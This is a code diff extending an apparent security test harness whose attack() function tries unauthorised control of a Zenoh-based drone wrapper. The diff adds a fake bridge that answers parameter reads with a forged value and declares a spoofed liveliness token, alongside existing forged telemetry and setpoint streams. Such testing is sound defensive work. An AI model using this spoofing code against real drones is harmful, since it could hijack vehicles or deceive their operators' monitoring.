@@ -23,6 +23,7 @@ from dronewrapper.msgs.lease import LeaseRequest
 from dronewrapper.msgs.mavros import (
     CommandBool,
     CommandTOL,
+    ParamGetResult,
     ParamSet,
     ParamValue,
     PositionTarget,
@@ -48,10 +49,12 @@ CALLS = [
 ]
 SETPOINTS = 40  # 2 s at 20 Hz: climb at 1 m/s
 FORGERIES = 20  # forged State and pose each
+FORGED_VALUE = 12345.0  # what the fake bridge answers for a parameter
+FAKE_SERVICE = "bridge_intruder"  # the liveliness token the intruder declares
 
 
 def attack(endpoint: str, identity: str, keys: str) -> dict:
-    attempts = len(CALLS) + 2  # every call, the setpoint stream, the forgeries
+    attempts = len(CALLS) + 4  # every call, setpoints, forged telemetry, a fake bridge, a token
     out = {"identity": identity or "none", "connected": False, "attempts": attempts}
     out |= {"obeyed": 0, "refused": 0, "no_reply": 0, "sent": 0}
     options = ZenohOptions(mode="client", connect=[endpoint], identity=identity, keys_dir=keys)
@@ -81,6 +84,14 @@ def attack(endpoint: str, identity: str, keys: str) -> dict:
             )
             out["obeyed" if ok else "refused"] += 1
             out[f"{name}_reply"] = codec.to_builtins(reply)
+        # a fake bridge: answers parameter reads with a forged value, claims to be alive
+        fake_reply = codec.encode(ParamGetResult(success=True, value=ParamValue(real=FORGED_VALUE)))
+
+        def forge_reply(query) -> None:
+            query.reply(query.key_expr, fake_reply, encoding=encoding_for(ParamGetResult))
+
+        fake_bridge = session.declare_queryable(registry.PARAM_GET.key(NS), forge_reply)
+        token = session.liveliness().declare_token(registry.ALIVE.key(NS, service=FAKE_SERVICE))
         setpoint = session.declare_publisher(
             registry.SETPOINT_RAW_LOCAL.key(NS), encoding=encoding_for(PositionTarget)
         )
@@ -99,7 +110,9 @@ def attack(endpoint: str, identity: str, keys: str) -> dict:
             pose.put(codec.encode(forged_pose))
             time.sleep(0.02)
         out["sent"] = SETPOINTS + 2 * FORGERIES
-        time.sleep(0.3)
+        time.sleep(1.0)  # the monitor keeps asking the parameter and listing the alive
+        token.undeclare()
+        fake_bridge.undeclare()
     finally:
         session.close()
     return out
